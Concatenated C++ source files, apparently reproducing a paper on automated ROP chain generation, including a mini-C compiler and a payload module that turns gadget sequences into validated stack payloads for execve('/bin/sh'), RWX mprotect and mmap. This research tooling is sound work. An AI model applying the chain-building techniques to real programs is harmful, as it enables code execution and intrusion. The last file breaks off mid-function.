      if (lex_.peek().kind == Tok::EqEq) {
        lex_.take();
        l = binop(Opcode::CmpEq, l, parse_rel());
      } else if (lex_.peek().kind == Tok::NotEq) {
        lex_.take();
        l = binop(Opcode::CmpNe, l, parse_rel());
      } else {
        return l;
      }
    }
  }
  Temp parse_rel() {
    Temp l = parse_shift();
    return rel_tail(l);
  }
  Temp rel_tail(Temp l) {
    for (;;) {
      Opcode op;
      switch (lex_.peek().kind) {
        case Tok::Lt: op = Opcode::CmpLt; break;
        case Tok::Le: op = Opcode::CmpLe; break;
        case Tok::Gt: op = Opcode::CmpGt; break;
        case Tok::Ge: op = Opcode::CmpGe; break;
        default: return l;
      }
      lex_.take();
      l = binop(op, l, parse_shift());
    }
  }
  Temp parse_shift() {
    Temp l = parse_add();
    return shift_tail(l);
  }
  Temp shift_tail(Temp l) {
    for (;;) {
      if (lex_.peek().kind == Tok::Shl) {
        lex_.take();
        l = binop(Opcode::Shl, l, parse_add());
      } else if (lex_.peek().kind == Tok::Shr) {
        lex_.take();
        l = binop(Opcode::Sar, l, parse_add());
      } else {
        return l;
      }
    }
  }
  Temp parse_add() {
    Temp l = parse_mul();
    return add_tail(l);
  }
  Temp add_tail(Temp l) {
    for (;;) {
      if (lex_.peek().kind == Tok::Plus) {
        lex_.take();
        l = binop(Opcode::Add, l, parse_mul());
      } else if (lex_.peek().kind == Tok::Minus) {
        lex_.take();
        l = binop(Opcode::Sub, l, parse_mul());
      } else {
        return l;
      }
    }
  }
  Temp parse_mul() {
    Temp l = parse_unary();
    return mul_tail(l);
  }
  Temp mul_tail(Temp l) {
    while (lex_.peek().kind == Tok::Star) {
      lex_.take();
      l = binop(Opcode::Mul, l, parse_unary());
    }
    return l;
  }

  Temp parse_unary() {
    switch (lex_.peek().kind) {
      case Tok::Minus: {
        lex_.take();
        const Temp a = parse_unary();
        const Temp dst = fn()->new_temp();
        emit({.op = Opcode::Neg, .dst = dst, .a = a});
        return dst;
      }
      case Tok::Tilde: {
        lex_.take();
        const Temp a = parse_unary();
        const Temp dst = fn()->new_temp();
        emit({.op = Opcode::Not, .dst = dst, .a = a});
        return dst;
      }
      case Tok::Bang: {
        lex_.take();
        const Temp a = parse_unary();
        const Temp zero = fn()->new_temp();
        emit(Instr::constant(zero, 0));
        return binop(Opcode::CmpEq, a, zero);
      }
      default:
        return parse_postfix();
    }
  }

  Temp parse_postfix() {
    Temp v = parse_primary();
    return postfix_ops(v);
  }
  Temp postfix_ops(Temp v) { return v; }  // indexing handled in primary

  Temp parse_primary() {
    const Token t = lex_.take();
    switch (t.kind) {
      case Tok::Num: {
        const Temp dst = fn()->new_temp();
        emit(Instr::constant(dst, t.value));
        return dst;
      }
      case Tok::Str: {
        const i64 off = prog_.add_data_string(t.text);
        const Temp dst = fn()->new_temp();
        emit({.op = Opcode::GlobalAddr, .dst = dst, .imm = off});
        return dst;
      }
      case Tok::LParen: {
        const Temp v = expression();
        expect(Tok::RParen, ")");
        return v;
      }
      case Tok::Ident:
        return primary_with_ident(t);
      default:
        err("unexpected token in expression");
    }
  }

  /// Identifier already consumed: variable, array index, or call.
  Temp primary_with_ident(const Token& name) {
    if (lex_.peek().kind == Tok::LParen) return call_or_builtin(name.text);

    const VarInfo& info = lookup(name.text);
    if (lex_.peek().kind == Tok::LBracket) {
      lex_.take();
      const Temp index = expression();
      expect(Tok::RBracket, "]");
      const Temp addr = element_addr(info, name.text, index);
      const Temp dst = fn()->new_temp();
      emit({.op = info.is_byte && is_array(info) ? Opcode::LoadB
                                                 : Opcode::Load,
            .dst = dst, .a = addr});
      return dst;
    }

    switch (info.kind) {
      case VarInfo::Kind::LocalScalar:
        return info.temp;
      case VarInfo::Kind::GlobalScalar: {
        const Temp addr = fn()->new_temp();
        emit({.op = Opcode::GlobalAddr, .dst = addr, .imm = info.offset});
        const Temp dst = fn()->new_temp();
        emit({.op = Opcode::Load, .dst = dst, .a = addr});
        return dst;
      }
      case VarInfo::Kind::LocalArray: {
        const Temp dst = fn()->new_temp();
        emit({.op = Opcode::FrameAddr, .dst = dst, .imm = info.offset});
        return dst;
      }
      case VarInfo::Kind::GlobalArray: {
        const Temp dst = fn()->new_temp();
        emit({.op = Opcode::GlobalAddr, .dst = dst, .imm = info.offset});
        return dst;
      }
    }
    err("unreachable variable kind");
  }

  Temp call_or_builtin(const std::string& name) {
    expect(Tok::LParen, "(");
    std::vector<Temp> args;
    if (!accept(Tok::RParen)) {
      do {
        args.push_back(expression());
      } while (accept(Tok::Comma));
      expect(Tok::RParen, ")");
    }

    const Temp dst = fn()->new_temp();
    auto need = [&](size_t n) {
      if (args.size() != n) err(name + " expects " + std::to_string(n) +
                                " argument(s)");
    };
    if (name == "out") {
      need(1);
      emit({.op = Opcode::Out, .a = args[0]});
      emit(Instr::constant(dst, 0));
      return dst;
    }
    if (name == "load") {
      need(1);
      emit({.op = Opcode::Load, .dst = dst, .a = args[0]});
      return dst;
    }
    if (name == "loadb") {
      need(1);
      emit({.op = Opcode::LoadB, .dst = dst, .a = args[0]});
      return dst;
    }
    if (name == "store") {
      need(2);
      emit({.op = Opcode::Store, .a = args[0], .b = args[1]});
      emit(Instr::constant(dst, 0));
      return dst;
    }
    if (name == "storeb") {
      need(2);
      emit({.op = Opcode::StoreB, .a = args[0], .b = args[1]});
      emit(Instr::constant(dst, 0));
      return dst;
    }

    int idx = prog_.find_function(name);
    if (idx < 0) {
      // Forward reference: create a placeholder signature now; definition
      // fills in the body (arity checked by cfg::verify afterwards).
      idx = static_cast<int>(prog_.functions.size());
      prog_.functions.emplace_back();
      prog_.functions[idx].name = name;
      prog_.functions[idx].num_params = static_cast<int>(args.size());
      prog_.functions[idx].num_temps = static_cast<int>(args.size());
    }
    emit({.op = Opcode::Call, .dst = dst, .imm = idx, .args = args});
    return dst;
  }

  // -- helpers -----------------------------------------------------------

  bool is_array(const VarInfo& v) const {
    return v.kind == VarInfo::Kind::LocalArray ||
           v.kind == VarInfo::Kind::GlobalArray;
  }

  Temp element_addr(const VarInfo& info, const std::string& name,
                    Temp index) {
    Temp base = fn()->new_temp();
    switch (info.kind) {
      case VarInfo::Kind::LocalArray:
        emit({.op = Opcode::FrameAddr, .dst = base, .imm = info.offset});
        break;
      case VarInfo::Kind::GlobalArray:
        emit({.op = Opcode::GlobalAddr, .dst = base, .imm = info.offset});
        break;
      case VarInfo::Kind::LocalScalar:
        base = info.temp;  // pointer held in a variable: 8-byte elements
        break;
      case VarInfo::Kind::GlobalScalar: {
        const Temp addr = fn()->new_temp();
        emit({.op = Opcode::GlobalAddr, .dst = addr, .imm = info.offset});
        emit({.op = Opcode::Load, .dst = base, .a = addr});
        break;
      }
    }
    (void)name;
    Temp scaled = index;
    if (!(is_array(info) && info.is_byte)) {
      const Temp three = fn()->new_temp();
      emit(Instr::constant(three, 3));
      scaled = fn()->new_temp();
      emit(Instr::bin(Opcode::Shl, scaled, index, three));
    }
    const Temp addr = fn()->new_temp();
    emit(Instr::bin(Opcode::Add, addr, base, scaled));
    return addr;
  }

  Temp binop(Opcode op, Temp a, Temp b) {
    const Temp dst = fn()->new_temp();
    emit(Instr::bin(op, dst, a, b));
    return dst;
  }

  /// &&/||: normalize both sides to 0/1 and combine bitwise.
  Temp logic_norm(Opcode op, Temp a, Temp b) {
    const Temp zero = fn()->new_temp();
    emit(Instr::constant(zero, 0));
    const Temp na = binop(Opcode::CmpNe, a, zero);
    const Temp nb = binop(Opcode::CmpNe, b, zero);
    return binop(op, na, nb);
  }

  const VarInfo& lookup(const std::string& name) {
    auto l = locals_.find(name);
    if (l != locals_.end() && !l->second.empty()) return l->second.back();
    auto g = globals_.find(name);
    if (g != globals_.end()) return g->second;
    err("undeclared identifier " + name);
  }

  // -- block scoping (C-like; inner declarations shadow outer ones) -------
  void push_scope() { scopes_.emplace_back(); }
  void pop_scope() {
    for (const std::string& name : scopes_.back()) {
      auto it = locals_.find(name);
      it->second.pop_back();
      if (it->second.empty()) locals_.erase(it);
    }
    scopes_.pop_back();
  }
  bool declared_in_current_scope(const std::string& name) const {
    const auto& scope = scopes_.back();
    return std::find(scope.begin(), scope.end(), name) != scope.end();
  }
  void declare(const std::string& name, VarInfo info) {
    locals_[name].push_back(info);
    scopes_.back().push_back(name);
  }

  void emit(Instr i) { fn()->blocks[cur_block_].instrs.push_back(std::move(i)); }
  void set_term(Terminator t) { fn()->blocks[cur_block_].term = std::move(t); }

  Lexer lex_;
  Program prog_;
  int fn_index_ = -1;
  // Accessor: prog_.functions may reallocate when forward-reference
  // placeholders are appended mid-parse, so never hold a Function pointer.
  Function* fn() { return &prog_.functions[fn_index_]; }
  BlockId cur_block_ = 0;
  // Shadowing stack per name; scopes_ records declaration order for popping.
  std::unordered_map<std::string, std::vector<VarInfo>> locals_;
  std::vector<std::vector<std::string>> scopes_;
  std::unordered_map<std::string, VarInfo> globals_;
};

}  // namespace

cfg::Program compile_source(const std::string& source) {
  return Compiler(source).run();
}

}  // namespace gp::minic
