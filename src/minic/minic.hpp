// Mini-C: the source language of the benchmark corpus (stand-in for the C
// programs the paper obfuscates with Tigress / Obfuscator-LLVM).
//
// Language summary (all values are 64-bit ints):
//   int f(int a, int b) { ... }      functions, <= 6 params
//   int g; int tab[16]; byte buf[64];   globals (data section)
//   int x; int x = e; int a[N]; byte b[N];   locals (frame)
//   x = e;  a[i] = e;  b[i] = e;     assignment (byte arrays store bytes)
//   if (e) {..} else {..}   while (e) {..}   return e;   out(e);  f(x);
//   expressions: literals (incl. 'c' chars), identifiers, a[i], f(..),
//     unary - ! ~, binary * + - << >> < <= > >= == != & ^ | && ||,
//     string literals (evaluate to their data-section address),
//   builtins: out(v), load(p), store(p, v), loadb(p), storeb(p, v).
// An identifier declared as an array evaluates to its address; arrays decay
// to pointers, and load/store/loadb/storeb give raw access for string-style
// code. && and || evaluate both sides (no short circuit) — documented
// divergence from C, irrelevant to the corpus which avoids effectful
// conditions.
#pragma once

#include <string>

#include "cfg/cfg.hpp"

namespace gp::minic {

/// Compile mini-C source to the CFG IR. Throws gp::Error with a
/// line-numbered message on syntax/semantic errors. The result passes
/// cfg::verify.
cfg::Program compile_source(const std::string& source);

}  // namespace gp::minic
