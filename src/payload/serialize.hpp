// Stable serialization of finished chains (the planner stage's output) for
// the artifact store. Record 0 is the count header; each chain is its own
// CRC-framed record. Chains are self-contained — payload bytes, library
// indices and metrics, no expression refs — so a restored chain is usable
// without re-running any solver work.
#pragma once

#include <optional>
#include <vector>

#include "payload/payload.hpp"
#include "support/serial.hpp"

namespace gp::payload {

std::vector<std::vector<u8>> encode_chains(const std::vector<Chain>& chains);

/// nullopt on any truncation/corruption; `library_size` bounds the gadget
/// indices (a stale artifact for a different pool must not pass).
std::optional<std::vector<Chain>> decode_chains(
    const std::vector<std::vector<u8>>& records, size_t library_size);

}  // namespace gp::payload
