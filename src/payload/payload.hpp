// Attack goals, chain concretization and payload validation (paper Sec. II-B
// goals + stage 4 "post-processing").
//
// A Goal names the syscall to reach and the register file it requires
// (paper's POINTER-typed constraint language included: a register may be
// required to point at attacker bytes placed inside the payload).
//
// concretize() takes an ORDERED gadget sequence (the linearized plan),
// re-executes it symbolically as one composed trace, conjoins
//   - each step's recorded branch decisions (path conditions),
//   - inter-gadget linkage: step i's transfer target == address of step i+1,
//   - the goal register constraints at the syscall,
//   - payload placement for POINTER goals,
// and asks the solver for a model, which becomes concrete payload bytes.
//
// validate() then proves the payload end-to-end: fresh emulator, payload on
// the stack, rip = first gadget, random uncontrolled registers — the run
// must stop at the goal syscall with the goal register file.
#pragma once

#include <optional>
#include <string>

#include "emu/emu.hpp"
#include "gadget/gadget.hpp"
#include "solver/solver.hpp"
#include "support/config.hpp"

namespace gp::payload {

struct RegTarget {
  x86::Reg reg;
  enum class Kind : u8 { Const, PointerToBytes } kind = Kind::Const;
  u64 value = 0;            // Const
  std::vector<u8> bytes;    // PointerToBytes (<= 8 bytes, NUL-padded)
};

struct Goal {
  std::string name;
  u64 syscall_no = 0;
  std::vector<RegTarget> regs;

  /// execve("/bin/sh", 0, 0)
  static Goal execve();
  /// mprotect(page, 0x1000, PROT_READ|WRITE|EXEC)
  static Goal mprotect();
  /// mmap(0, 0x1000, RWX, MAP_PRIVATE|ANON, -1, 0) — needs r10/r8/r9.
  static Goal mmap();
  static const std::vector<Goal>& all();
};

/// A finished exploit chain.
struct Chain {
  std::string goal_name;
  std::vector<u32> gadgets;   // library indices, execution order
  std::vector<u8> payload;    // bytes placed at the hijacked rsp
  u64 entry = 0;              // address written over the return address
  // Metrics for Table V.
  int total_insts = 0;
  int ret_gadgets = 0, ij_gadgets = 0, dj_gadgets = 0, cj_gadgets = 0;
  double avg_gadget_len() const {
    return gadgets.empty() ? 0.0
                           : static_cast<double>(total_insts) /
                                 static_cast<double>(gadgets.size());
  }
};

/// Failure accounting for concretize() (aggregated across calls when the
/// same struct is passed repeatedly; used by planner stats and benches).
struct ConcretizeStats {
  u64 bad_flow = 0;      // inner gadget did not end in an indirect transfer
  u64 negative_stack = 0;  // chain reads below the hijacked rsp
  u64 unsat = 0;           // solver found no payload
  /// The composition query came back UNKNOWN (conflict budget, governed
  /// deadline/solver-check budget, or an injected solver fault).
  /// Inconclusive is a failure — a chain is only emitted on a real model.
  u64 solver_unknown = 0;
  /// Calls cut by an exhausted step/node budget or cancellation while
  /// re-executing the composed trace; the chain is dropped, never emitted
  /// half-solved.
  u64 resource_cut = 0;
  u64 too_big = 0;         // payload exceeded max_payload
  u64 validation_failed = 0;
  u64 ok = 0;
  /// Goal register whose composed value was a constant that contradicted
  /// the goal outright in the most recent failed call (NONE otherwise).
  /// The planner uses this to blame and demote the responsible provider.
  x86::Reg last_mismatch_reg = x86::Reg::NONE;
};

struct ConcretizeOptions {
  u64 stack_base = image::kStackTop - 0x2000;  // rsp at hijack (ASLR off)
  size_t max_payload = 4096;
  int validation_trials = 2;  // random uncontrolled-register trials
  ConcretizeStats* stats = nullptr;
  /// Shared resource governor (optional; must outlive the call): bounds
  /// the composition re-execution (sym steps / expr nodes) and the payload
  /// solve (solver checks, deadline watchdog). Exhaustion fails the call
  /// (nullopt + a stats counter) — never a crash, never a partial chain.
  Governor* governor = nullptr;
  /// Constraint-builder tracing to stderr (false constraints, UNSAT cores).
  /// Resolved once from the gp::Config snapshot (GP_DEBUG_CONC2) instead
  /// of a per-constraint getenv in the composition loop.
  bool debug_conc2 = config().debug_conc2;
};

/// Compose, solve and validate. Returns nullopt if the sequence has no
/// satisfying payload or fails emulator validation.
std::optional<Chain> concretize(solver::Context& ctx,
                                const gadget::Library& lib,
                                const image::Image& img,
                                const std::vector<u32>& ordered,
                                const Goal& goal,
                                const ConcretizeOptions& opts = {});

/// Re-run a finished chain in a fresh emulator and check the goal (used by
/// tests and the examples; concretize() already did this once).
bool validate(const image::Image& img, const Chain& chain, const Goal& goal,
              u64 stack_base, u64 reg_seed);

}  // namespace gp::payload
