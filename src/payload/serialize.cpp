#include "payload/serialize.hpp"

namespace gp::payload {

std::vector<std::vector<u8>> encode_chains(const std::vector<Chain>& chains) {
  std::vector<std::vector<u8>> out;
  serial::Writer header;
  header.put_u32(static_cast<u32>(chains.size()));
  out.push_back(header.take());

  for (const Chain& c : chains) {
    serial::Writer w;
    w.put_str(c.goal_name);
    w.put_u32(static_cast<u32>(c.gadgets.size()));
    for (const u32 g : c.gadgets) w.put_u32(g);
    w.put_bytes(c.payload);
    w.put_u64(c.entry);
    w.put_u32(static_cast<u32>(c.total_insts));
    w.put_u32(static_cast<u32>(c.ret_gadgets));
    w.put_u32(static_cast<u32>(c.ij_gadgets));
    w.put_u32(static_cast<u32>(c.dj_gadgets));
    w.put_u32(static_cast<u32>(c.cj_gadgets));
    out.push_back(w.take());
  }
  return out;
}

std::optional<std::vector<Chain>> decode_chains(
    const std::vector<std::vector<u8>>& records, size_t library_size) {
  if (records.empty()) return std::nullopt;
  serial::Reader hr(records[0]);
  const u32 count = hr.get_u32();
  if (!hr.ok() || !hr.at_end() || count + 1 != records.size())
    return std::nullopt;

  std::vector<Chain> chains;
  chains.reserve(count);
  for (u32 i = 0; i < count; ++i) {
    serial::Reader r(records[i + 1]);
    Chain c;
    c.goal_name = r.get_str();
    const u32 n_gadgets = r.get_u32();
    if (!r.ok() || n_gadgets > r.remaining() / 4 + 1) return std::nullopt;
    for (u32 k = 0; k < n_gadgets && r.ok(); ++k) {
      const u32 g = r.get_u32();
      if (g >= library_size) return std::nullopt;
      c.gadgets.push_back(g);
    }
    auto payload = r.get_bytes();
    c.payload.assign(payload.begin(), payload.end());
    c.entry = r.get_u64();
    c.total_insts = static_cast<int>(r.get_u32());
    c.ret_gadgets = static_cast<int>(r.get_u32());
    c.ij_gadgets = static_cast<int>(r.get_u32());
    c.dj_gadgets = static_cast<int>(r.get_u32());
    c.cj_gadgets = static_cast<int>(r.get_u32());
    if (!r.ok() || !r.at_end()) return std::nullopt;
    chains.push_back(std::move(c));
  }
  return chains;
}

}  // namespace gp::payload
