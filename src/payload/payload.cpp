#include "payload/payload.hpp"

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <unordered_map>

#include "lift/lift.hpp"
#include "support/rng.hpp"

namespace gp::payload {

using gadget::EndKind;
using gadget::Record;
using solver::ExprRef;
using x86::Reg;

Goal Goal::execve() {
  Goal g;
  g.name = "execve";
  g.syscall_no = 59;
  g.regs = {
      {Reg::RAX, RegTarget::Kind::Const, 59, {}},
      {Reg::RDI, RegTarget::Kind::PointerToBytes, 0,
       {'/', 'b', 'i', 'n', '/', 's', 'h', 0}},
      {Reg::RSI, RegTarget::Kind::Const, 0, {}},
      {Reg::RDX, RegTarget::Kind::Const, 0, {}},
  };
  return g;
}

Goal Goal::mprotect() {
  Goal g;
  g.name = "mprotect";
  g.syscall_no = 10;
  g.regs = {
      {Reg::RAX, RegTarget::Kind::Const, 10, {}},
      {Reg::RDI, RegTarget::Kind::Const, image::kDataBase, {}},
      {Reg::RSI, RegTarget::Kind::Const, 0x1000, {}},
      {Reg::RDX, RegTarget::Kind::Const, 7, {}},
  };
  return g;
}

Goal Goal::mmap() {
  Goal g;
  g.name = "mmap";
  g.syscall_no = 9;
  g.regs = {
      {Reg::RAX, RegTarget::Kind::Const, 9, {}},
      {Reg::RDI, RegTarget::Kind::Const, 0, {}},
      {Reg::RSI, RegTarget::Kind::Const, 0x1000, {}},
      {Reg::RDX, RegTarget::Kind::Const, 7, {}},
      {Reg::R10, RegTarget::Kind::Const, 0x22, {}},
      {Reg::R8, RegTarget::Kind::Const, static_cast<u64>(-1), {}},
      {Reg::R9, RegTarget::Kind::Const, 0, {}},
  };
  return g;
}

const std::vector<Goal>& Goal::all() {
  static const std::vector<Goal> goals = {execve(), mprotect(), mmap()};
  return goals;
}

namespace {

/// Re-execute a gadget's recorded path on a shared symbolic state,
/// collecting branch-decision constraints. Returns the final Flow.
sym::Flow replay(sym::Executor& exec, solver::Context& ctx, sym::State& st,
                 const Record& g, std::vector<ExprRef>& constraints,
                 bool dbg) {
  sym::Flow flow;
  for (const gadget::PathStep& step : g.path) {
    flow = exec.step(st, lift::lift(step.inst));
    if (flow.kind == ir::JumpKind::CondDirect) {
      const ExprRef c =
          step.branch_taken ? flow.cond : ctx.bnot(flow.cond);
      if (dbg && ctx.is_const(c, 0))
        fprintf(stderr, "FALSE path-cond at gadget %llx inst %s\n",
                (unsigned long long)g.addr,
                x86::to_string(step.inst).c_str());
      constraints.push_back(c);
    }
  }
  return flow;
}

}  // namespace

std::optional<Chain> concretize(solver::Context& ctx,
                                const gadget::Library& lib,
                                const image::Image& img,
                                const std::vector<u32>& ordered,
                                const Goal& goal,
                                const ConcretizeOptions& opts) {
  GP_CHECK(!ordered.empty(), "concretize: empty chain");
  GP_CHECK(lib[ordered.back()].end == EndKind::Syscall,
           "concretize: chain must end in a syscall gadget");

  ConcretizeStats local;
  ConcretizeStats& cs = opts.stats ? *opts.stats : local;
  cs.last_mismatch_reg = x86::Reg::NONE;

  // Everything below builds expressions and steps the symbolic executor,
  // any of which can exhaust a governed budget; the catch at the end turns
  // that into a failed (never partial) concretization.
  try {
  sym::Executor exec(ctx, &img);
  exec.set_governor(opts.governor);
  sym::State st = exec.initial_state();
  std::vector<ExprRef> constraints;
  const bool dbg = opts.debug_conc2;
  auto push_c = [&](ExprRef c, const char* tag) {
    if (dbg && ctx.is_const(c, 0))
      fprintf(stderr, "FALSE constraint from %s\n", tag);
    constraints.push_back(c);
  };

  for (size_t i = 0; i < ordered.size(); ++i) {
    const Record& g = lib[ordered[i]];
    const sym::Flow flow = replay(exec, ctx, st, g, constraints, dbg);
    if (i + 1 < ordered.size()) {
      // Link: this gadget's transfer must land on the next gadget.
      if (flow.kind != ir::JumpKind::Indirect) {
        ++cs.bad_flow;
        return std::nullopt;
      }
      push_c(ctx.eq(flow.target_expr,
                    ctx.constant(lib[ordered[i + 1]].addr, 64)),
             "link");
    } else {
      if (flow.kind != ir::JumpKind::Syscall) {
        ++cs.bad_flow;
        return std::nullopt;
      }
    }
  }

  // Stack reads at non-negative offsets come from the attacker payload.
  // Reads BELOW the hijacked rsp (un-initialized callee locals of merged
  // call gadgets) see memory the attacker does not control; the validator
  // guarantees it is zero, so pin those variables to zero.
  std::vector<i64> offsets;
  for (const i64 off : st.stack_reads) {
    if (off >= 0) {
      offsets.push_back(off);
    } else {
      constraints.push_back(ctx.eq(ctx.var(sym::stack_var(off), 64),
                                   ctx.constant(0, 64)));
    }
  }

  // Goal register constraints; POINTER targets allocate payload slots past
  // every offset the chain consumes.
  i64 next_free =
      offsets.empty() ? 0 : (*std::max_element(offsets.begin(),
                                               offsets.end()) + 8);
  const ExprRef rsp0 = ctx.var(sym::initial_reg_var(Reg::RSP), 64);

  // POINTER redirection (paper Sec. IV-B): loads through attacker-derivable
  // pointers are steered into the payload. Reads sharing a symbolic base
  // have FIXED relative offsets (e.g. [rbp-248] and [rbp-264]), so each
  // base gets one contiguous payload region and the base is aimed so that
  // every read lands inside it.
  {
    struct BaseGroup {
      std::vector<std::pair<const sym::IndirectRead*, i64>> reads;
      i64 min_off = 0, max_off = 0;
      bool has_span = false;
    };
    std::unordered_map<ExprRef, BaseGroup> groups;
    for (const sym::IndirectRead& ir : st.ind_reads) {
      // If the address is already pinned once rsp is fixed (e.g. a read of
      // the stack through `mov eax, esp`), do NOT aim it at a fresh region:
      // bind the read to whatever actually lives there — a payload slot in
      // the controlled window, image bytes, or zeroed memory.
      const ExprRef probed =
          ctx.substitute(ir.addr, rsp0, ctx.constant(opts.stack_base, 64));
      if (ctx.is_const(probed)) {
        const u64 a = ctx.const_val(probed);
        if (a >= opts.stack_base &&
            a + ir.width / 8 <= opts.stack_base + opts.max_payload) {
          const i64 off = static_cast<i64>(a - opts.stack_base);
          const i64 slot = off & ~i64{7};
          const unsigned bit_off = static_cast<unsigned>(off & 7) * 8;
          if (bit_off + ir.width <= 64) {
            offsets.push_back(slot);
            next_free = std::max(next_free, slot + 8);
            const ExprRef sv = ctx.var(sym::stack_var(slot), 64);
            constraints.push_back(ctx.eq(
                ir.var, ir.width == 64
                            ? sv
                            : ctx.extract(sv, static_cast<u8>(bit_off),
                                          ir.width)));
          }
          continue;
        }
        // Outside the payload: image bytes or zero-filled memory.
        u64 value = 0;
        for (unsigned k = 0; k < ir.width / 8u; ++k) {
          u8 byte = 0;
          const u64 ba = a + k;
          if (img.in_code(ba)) {
            byte = img.code_at(ba)[0];
          } else if (ba >= img.data_base() &&
                     ba < img.data_base() + img.data().size()) {
            byte = img.data()[ba - img.data_base()];
          }
          value |= static_cast<u64>(byte) << (8 * k);
        }
        constraints.push_back(
            ctx.eq(ir.var, ctx.constant(value, ir.width)));
        continue;
      }
      const auto bo = sym::split_base_offset(ctx, ir.addr);
      if (!bo || bo->base == solver::kNoExpr) continue;  // const: resolved
      auto& grp = groups[bo->base];
      if (grp.reads.empty() && !grp.has_span) {
        grp.min_off = grp.max_off = bo->offset;
        grp.has_span = true;
      } else {
        grp.min_off = std::min(grp.min_off, bo->offset);
        grp.max_off = std::max(grp.max_off, bo->offset);
      }
      grp.reads.push_back({&ir, bo->offset});
    }
    // Writes through aimed (or aimable) pointers must land inside their
    // base's region too — otherwise they clobber chain payload the memory
    // model could not see (different symbolic base).
    for (const auto& w : st.writes) {
      const auto bo = sym::split_base_offset(ctx, w.addr);
      if (!bo || bo->base == solver::kNoExpr) continue;
      const ExprRef probed =
          ctx.substitute(w.addr, rsp0, ctx.constant(opts.stack_base, 64));
      if (ctx.is_const(probed)) continue;   // rsp0-relative: fully modeled
      if (bo->base == rsp0) continue;
      auto it = groups.find(bo->base);
      if (it == groups.end()) {
        // Write-only base: aimable only when payload/register-derived.
        bool derivable = true;
        for (const ExprRef v : ctx.variables(bo->base)) {
          const std::string& name = ctx.var_name(v);
          if (sym::parse_stack_var(name) || name.rfind("ind", 0) == 0)
            continue;
          bool init_reg = false;
          for (int k = 0; k < x86::kNumRegs; ++k)
            init_reg |= name == sym::initial_reg_var(
                                    static_cast<x86::Reg>(k));
          if (!init_reg) derivable = false;
        }
        if (!derivable) continue;  // uncontrolled: validation arbitrates
        it = groups.emplace(bo->base, BaseGroup{}).first;
      }
      auto& grp = it->second;
      if (!grp.has_span) {
        grp.min_off = grp.max_off = bo->offset;
        grp.has_span = true;
      } else {
        grp.min_off = std::min(grp.min_off, bo->offset);
        grp.max_off = std::max(grp.max_off, bo->offset);
      }
    }
    for (auto& [base, grp] : groups) {
      const i64 span = grp.max_off - grp.min_off + 8;
      if (span > static_cast<i64>(opts.max_payload)) {
        ++cs.too_big;
        return std::nullopt;
      }
      const i64 region = next_free;
      next_free += (span + 7) & ~i64{7};
      // Aim the base so the lowest read lands at the region start.
      push_c(ctx.eq(base,
                    ctx.add(rsp0, ctx.constant(region - grp.min_off, 64))),
             "region-aim");
      for (const auto& [ir, off] : grp.reads) {
        const i64 rel = off - grp.min_off;
        const i64 slot = (region + rel) & ~i64{7};
        const unsigned bit_off =
            static_cast<unsigned>((region + rel) & 7) * 8;
        offsets.push_back(slot);
        const ExprRef slot_var = ctx.var(sym::stack_var(slot), 64);
        if (bit_off + ir->width <= 64) {
          constraints.push_back(ctx.eq(
              ir->var, ir->width == 64
                           ? slot_var
                           : ctx.extract(slot_var, static_cast<u8>(bit_off),
                                         ir->width)));
        }
        // Reads straddling a slot boundary stay unconstrained (the solver
        // free-picks; emulator validation rejects if it mattered).
      }
    }
  }
  struct PointerSlot {
    i64 offset;
    std::vector<u8> bytes;
  };
  std::vector<PointerSlot> pointer_slots;

  for (const RegTarget& t : goal.regs) {
    const ExprRef final = st.regs[static_cast<int>(t.reg)];
    if (t.kind == RegTarget::Kind::Const) {
      if (ctx.is_const(final) && ctx.const_val(final) != t.value) {
        cs.last_mismatch_reg = t.reg;
        if (dbg)
          fprintf(stderr, "goal-const mismatch: %s = %llx want %llx\n",
                  x86::reg_name(t.reg),
                  (unsigned long long)ctx.const_val(final),
                  (unsigned long long)t.value);
      }
      push_c(ctx.eq(final, ctx.constant(t.value, 64)), "goal-const");
    } else {
      GP_CHECK(t.bytes.size() <= 8, "pointer payload must fit one slot");
      const i64 slot = next_free;
      next_free += 8;
      pointer_slots.push_back({slot, t.bytes});
      push_c(ctx.eq(final, ctx.add(rsp0, ctx.constant(slot, 64))),
             "goal-pointer");
      u64 word = 0;
      for (size_t k = 0; k < t.bytes.size(); ++k)
        word |= static_cast<u64>(t.bytes[k]) << (8 * k);
      constraints.push_back(
          ctx.eq(ctx.var(sym::stack_var(slot), 64), ctx.constant(word, 64)));
      offsets.push_back(slot);
    }
  }

  // Pin the stack base (threat model: ASLR off / leaked) and the initial
  // flags (the validator starts from a cleared flag state).
  constraints.push_back(ctx.eq(rsp0, ctx.constant(opts.stack_base, 64)));
  for (int f = 0; f < ir::kNumFlags; ++f) {
    const ExprRef fv =
        ctx.var(sym::initial_flag_var(static_cast<ir::Flag>(f)), 1);
    constraints.push_back(ctx.bnot(fv));
  }

  solver::Solver solver(ctx, /*conflict_budget=*/500'000, opts.governor);
  const auto model = solver.check_sat(constraints);
  if (!model) {
    // An UNKNOWN answer (budget, deadline, injected fault) is a failure —
    // but not an UNSAT: the sequence might work with more budget.
    if (solver.last_unknown()) {
      ++cs.solver_unknown;
      return std::nullopt;
    }
    ++cs.unsat;
    if (dbg && cs.unsat <= 5) {
      fprintf(stderr, "=== UNSAT constraint set (%zu) ===\n",
              constraints.size());
      for (const ExprRef c : constraints)
        fprintf(stderr, "  %s\n", ctx.to_string(c).substr(0, 400).c_str());
      // Greedy minimal-core search: drop constraints that keep UNSAT.
      std::vector<ExprRef> core = constraints;
      for (size_t i = 0; i < core.size();) {
        std::vector<ExprRef> trial = core;
        trial.erase(trial.begin() + i);
        if (!solver.check_sat(trial)) core = trial;
        else ++i;
      }
      fprintf(stderr, "=== minimal core (%zu) ===\n", core.size());
      for (const ExprRef c : core)
        fprintf(stderr, "  %s\n", ctx.to_string(c).substr(0, 600).c_str());
    }
    return std::nullopt;
  }

  // Payload = model values of the consumed stack slots.
  const i64 payload_len = next_free;
  if (payload_len < 0 ||
      static_cast<size_t>(payload_len) > opts.max_payload) {
    ++cs.too_big;
    return std::nullopt;
  }
  std::vector<u8> payload(static_cast<size_t>(payload_len), 0);
  auto place = [&](i64 off, u64 word) {
    for (int k = 0; k < 8; ++k)
      if (off + k < payload_len)
        payload[off + k] = static_cast<u8>(word >> (8 * k));
  };
  std::sort(offsets.begin(), offsets.end());
  offsets.erase(std::unique(offsets.begin(), offsets.end()), offsets.end());
  for (const i64 off : offsets) {
    const ExprRef var = ctx.var(sym::stack_var(off), 64);
    auto it = model->find(var);
    place(off, it == model->end() ? 0 : it->second);
  }

  Chain chain;
